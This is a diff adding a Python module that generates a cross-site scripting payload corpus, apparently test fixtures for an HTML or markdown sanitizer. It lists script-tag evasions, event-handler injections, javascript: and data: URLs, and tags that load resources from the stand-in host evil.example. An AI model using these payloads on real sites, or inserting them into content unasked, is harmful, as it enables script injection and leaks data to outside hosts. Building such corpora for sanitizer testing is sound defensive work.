@@ -1,0 +1,123 @@
+"""Texts that run, leave or disguise themselves where a page is careless: each runs something or leaves the site."""
+
+from collections.abc import Sequence
+
+RUN = "window.__pwned=1"
+AWAY = "https://evil.example/x"
+TAGS = (
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<script/x>{}</script>",
+    "<script\n>{}</script\n>",
+    "<scr<script>ipt>{}</scr</script>ipt>",
+    "<svg><script>{}</script></svg>",
+    "<math><mtext><script>{}</script></mtext></math>",
+    "<noscript><p title='</noscript><script>{}</script>'>",
+    "<template><script>{}</script></template>",
+    "<xmp></xmp><script>{}</script>",
+    "<!--><script>{}</script>-->",
+    "<![CDATA[<script>{}</script>]]>",
+    "<?xml?><script>{}</script>",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</style><script>{}</script>",
+    "</script><script>{}</script>",
+    "</option></select><script>{}</script>",
+    "</pre></code></p><script>{}</script>",
+    "]]><script>{}</script>",
+    "'><script>{}</script>",
+    '"><script>{}</script>',
+    '\\"><script>{}</script>',
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "\u003cscript\u003e{}\u003c/script\u003e",
+    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
+)
+ELEMENTS = (
+    "<img src=x onerror={}>",
+    "<img src=x onerror='{}'//",
+    "<img/src/onerror={}>",
+    '"><img src=x onerror={}>',
+    "'><img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg/onload={}>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<body onload={}>",
+    "<iframe onload={}>",
+    "<video><source onerror={}>",
+    "<audio src=x onerror={}>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<select autofocus onfocus={}>",
+    "<marquee onstart={}>",
+    "<object data=x onerror={}>",
+    "<embed src=x onerror={}>",
+    "<style onload={}>",
+    "<link rel=stylesheet href=x onerror={}>",
+    "<p style=animation-name:x onanimationstart={}>",
+    "<button popovertarget=x onbeforetoggle={}>",
+    '" autofocus onfocus="{}" x="',
+    "' autofocus onfocus='{}' x='",
+    "` onfocus={} `",
+    "x onmouseover={} ",
+)
+ADDRESSES = (
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "java\tscript:{}",
+    " javascript:{}",
+    "&#1;javascript:{}",
+    "javascript&colon;{}",
+    "&#106;avascript:{}",
+    "&#x6A;avascript:{}",
+    "javascript:/*--></title>*/{}",
+    "javascript://%0a{}",
+    "data:text/html,<script>{}</script>",
+    "data:image/svg+xml,<svg onload={}>",
+    "vbscript:{}",
+    "blob:{}",
+)
+LINKS = (
+    "[x]({})",
+    "[x](<{}>)",
+    "![x]({})",
+    "<{}>",
+    "[x][a]\n\n[a]: {}",
+    "[x][a]\n\n[a]: <{}> 'title'",
+    '<a href="{}">x</a>',
+    "<iframe src='{}'></iframe>",
+    "<form action='{}'><button autofocus>x</button></form>",
+)
+LEAVING = (
+    f"![x]({AWAY})",
+    f"<img src={AWAY}>",
+    f"<img srcset='{AWAY} 1x'>",
+    f"<picture><source srcset={AWAY}><img></picture>",
+    f"<link rel=stylesheet href={AWAY}>",
+    f"<link rel=prefetch href={AWAY}>",
+    f"<link rel=dns-prefetch href={AWAY}>",
+    f"<style>@import '{AWAY}';</style>",
+    f"<p style='background:url({AWAY})'>x</p>",
+    f"<base href={AWAY}>",
+    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
+    f"<iframe src={AWAY}></iframe>",
+    f"<object data={AWAY}></object>",
+    f"<embed src={AWAY}>",
+    f"<video poster={AWAY} src={AWAY} autoplay>",
+    f"<audio src={AWAY} autoplay>",
+    f"<svg><image href={AWAY} /></svg>",
+    f"<svg><use href={AWAY}#x /></svg>",
+    f"<script src={AWAY}></script>",
+    f"<input type=image src={AWAY}>",
+    f"<body background={AWAY}>",
+    f"<table background={AWAY}><td background={AWAY}>",
+    "![x](//evil.example/x)",
+    "<img src=//evil.example/x>",
+)
+
+
+def payloads() -> Sequence[str]:
+    """Every text, once."""
+    ran = [one.format(act) for one in (*TAGS, *ELEMENTS) for act in (RUN, "alert(1)")]
+    followed = [link.format(one.format(RUN)) for one in ADDRESSES for link in LINKS]
+    return tuple(dict.fromkeys((*ran, *followed, *LEAVING)))
